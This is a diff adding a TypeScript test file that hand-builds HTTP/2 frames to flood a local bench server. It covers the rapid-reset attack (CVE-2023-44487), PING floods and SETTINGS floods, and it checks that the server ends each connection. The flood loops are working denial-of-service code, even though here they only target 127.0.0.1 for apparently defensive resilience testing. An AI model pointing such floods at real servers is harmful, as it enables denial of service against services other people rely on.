@@ -1,0 +1,89 @@
+// The known attacks on HTTP/2, frame by frame: each costs whoever answers more than who asks, so a connection that does it is ended. What
+// else goes on notices nothing. Written by hand, as no client library would do it.
+import { connect, type Socket } from 'node:net';
+import { setTimeout as delay } from 'node:timers/promises';
+import { type Actor, PATIENCE_MS, type Stage } from './stage.js';
+
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
+const END_STREAM_AND_HEADERS = 5;
+/** GET http://bench/slow?ms=1000: static fields, and literal ones that the table does not keep. */
+const REQUEST = Buffer.concat([
+  Buffer.from([0x82, 0x86, 0x01, 5]),
+  Buffer.from('bench'),
+  Buffer.from([0x04, 13]),
+  Buffer.from('/slow?ms=1000'),
+]);
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** Far more than anybody allows. */
+const MOST = 50_000;
+const BATCH = 100;
+
+function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** Sends batches until the connection is ended, by GOAWAY or altogether. */
+async function flood(stage: Stage, batch: (at: number) => Buffer): Promise<void> {
+  const socket = connect({ port: stage.ports.web, host: '127.0.0.1', noDelay: true });
+  let ended = false;
+  socket.on('error', () => undefined);
+  socket.once('close', () => {
+    ended = true;
+  });
+  socket.setTimeout(PATIENCE_MS, () => socket.destroy());
+  watchForGoodbye(socket, () => {
+    ended = true;
+  });
+  socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
+  for (let at = 0; at < MOST && !ended && !socket.destroyed; at += BATCH) {
+    if (socket.write(batch(at))) await new Promise(setImmediate);
+    else await new Promise<void>((resolve) => socket.once('drain', resolve).once('close', resolve));
+  }
+  socket.destroy();
+  if (!ended) throw new Error(`a flood of ${MOST} was borne`);
+  await delay(stage.random.integer(500, 2000));
+}
+
+function watchForGoodbye(socket: Socket, goodbye: () => void): void {
+  let buffered = Buffer.alloc(0);
+  socket.on('data', (chunk: Buffer) => {
+    buffered = Buffer.concat([buffered, chunk]);
+    for (;;) {
+      const length = buffered.length < 9 ? Number.POSITIVE_INFINITY : 9 + buffered.readUIntBE(0, 3);
+      if (buffered.length < length) return;
+      if (buffered[3] === FRAME.GOAWAY) goodbye();
+      buffered = buffered.subarray(length);
+    }
+  });
+}
+
+/** As many as a batch has, one after the other. */
+const each = (make: (i: number) => Buffer): Buffer => Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(i)));
+
+/** CVE-2023-44487: each request is taken back at once. */
+const rapidResets = (stage: Stage) =>
+  flood(stage, (at) =>
+    each((i) => {
+      const stream = 2 * (at + i) + 1;
+      return Buffer.concat([
+        frame(FRAME.HEADERS, END_STREAM_AND_HEADERS, stream, REQUEST),
+        frame(FRAME.RST_STREAM, 0, stream, CANCEL),
+      ]);
+    }),
+  );
+
+const pings = (stage: Stage) => flood(stage, () => each(() => frame(FRAME.PING, 0, 0, Buffer.alloc(8))));
+
+const settings = (stage: Stage) => flood(stage, () => each(() => frame(FRAME.SETTINGS, 0, 0)));
+
+export const FLOOD_ACTORS: readonly Actor[] = [
+  { name: 'flood-resets', count: 1, act: rapidResets },
+  { name: 'flood-pings', count: 1, act: pings },
+  { name: 'flood-settings', count: 1, act: settings },
+];
